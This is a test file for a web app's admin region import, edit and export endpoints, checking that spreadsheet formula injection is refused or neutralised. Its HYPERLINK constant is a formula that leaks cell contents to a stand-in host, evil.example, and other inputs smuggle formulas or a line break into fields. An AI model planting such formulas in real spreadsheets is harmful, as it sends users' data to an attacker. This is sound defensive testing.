import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RegionImportResult } from '#shared/schemas/admin-regions';
import { regions } from '#server/features/regions/regions.tables';
import { signInAdmin } from '#test-support/admin';
import { createTestApp, type TestApp } from '#test-support/test-app';

// Spreadsheet formulas never leave the shop: not through the import, not through the edit
// dialog, and not through the export even when the database holds one from before.
let t: TestApp;
let admin: string;
beforeAll(async () => {
  t = await createTestApp({ config: { rateLimits: false } });
  admin = await signInAdmin(t.app);
});
afterAll(async () => t.close());

const HEADER = 'name,country,postcodePrefix,singlePrice,bulkPrice,wholesalePrice,enabled';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prices")';

function upload(content: string) {
  const boundary = '----pellets-test-boundary';
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="csvFile"; filename="regions.csv"\r\n` +
        'Content-Type: text/csv\r\n\r\n',
    ),
    Buffer.from(content),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return t.app.inject({
    method: 'POST',
    url: '/api/admin/regions/import',
    headers: { cookie: admin, 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: body,
  });
}

const names = async () => (await t.database.db.select().from(regions)).map((r) => r.name);

describe('the regions CSV import', () => {
  it('refuses a quoted formula hidden behind leading spaces, in any column', async () => {
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const file = [
      HEADER,
      `${quoted(` ${HYPERLINK}`)},England,ZA,300,290,280,true`,
      `Spaced,${quoted('  @SUM(1+1)')},ZB,300,290,280,true`,
      `Tabbed,${quoted('\t=1+1')},ZC,300,290,280,true`,
      'Fine,England,ZD,300,290,280,true',
    ].join('\n');
    const response = await upload(file);
    expect(response.statusCode).toBe(200);
    const { results } = response.json<RegionImportResult>();
    expect(results).toMatchObject({ successful: 1, created: 1 });
    expect(results.errors.map((e) => e.row)).toEqual([2, 3, 4]);
    for (const error of results.errors) expect(error.message).toMatch(/may not start with =/);
    expect(await names()).toContain('Fine');
    expect((await names()).some((name) => name.includes('HYPERLINK'))).toBe(false);
  });
});

describe('the region edit dialog', () => {
  it('refuses a formula or a line break as the country and changes nothing', async () => {
    const [doncaster] = await t.database.db
      .select()
      .from(regions)
      .where(eq(regions.name, 'Doncaster'));
    for (const country of [HYPERLINK, ` ${HYPERLINK}`, '+44', 'England\r\nX']) {
      const response = await t.app.inject({
        method: 'PATCH',
        url: `/api/regions/${doncaster!.id}/pricing`,
        headers: { cookie: admin },
        payload: { singlePrice: 300, bulkPrice: 290, wholesalePrice: 280, country },
      });
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toMatch(
        /^(Country may not start with =, \+, -, @ or a tab|Must be a single line without control characters)$/,
      );
    }
    const [after] = await t.database.db.select().from(regions).where(eq(regions.id, doncaster!.id));
    expect(after).toEqual(doncaster);
  });
});

describe('the regions CSV export', () => {
  it('writes a formula stored before these checks as text a spreadsheet will not run', async () => {
    await t.database.db.insert(regions).values({
      name: HYPERLINK,
      country: ' @SUM(1+1)',
      postcodePrefix: 'ZZ',
      singlePrice: '300.00',
      bulkPrice: '290.00',
      wholesalePrice: '280.00',
    });
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/admin/regions/export',
      headers: { cookie: admin },
    });
    expect(response.statusCode).toBe(200);
    const [header, ...rows]: string[][] = parse(response.body);
    expect(header?.join(',')).toBe(HEADER);
    const legacy = rows.find((row) => row[2] === 'ZZ');
    expect(legacy).toEqual([
      `'${HYPERLINK}`,
      "' @SUM(1+1)",
      'ZZ',
      '300.00',
      '290.00',
      '280.00',
      'true',
    ]);
    for (const cell of rows.flat()) expect(cell.trimStart()).not.toMatch(/^[=+\-@\t\r]/);
    // Everything else is exported as it is stored.
    expect(rows.find((row) => row[0] === 'Doncaster')?.slice(0, 3)).toEqual([
      'Doncaster',
      'England',
      'DN',
    ]);
  });
});
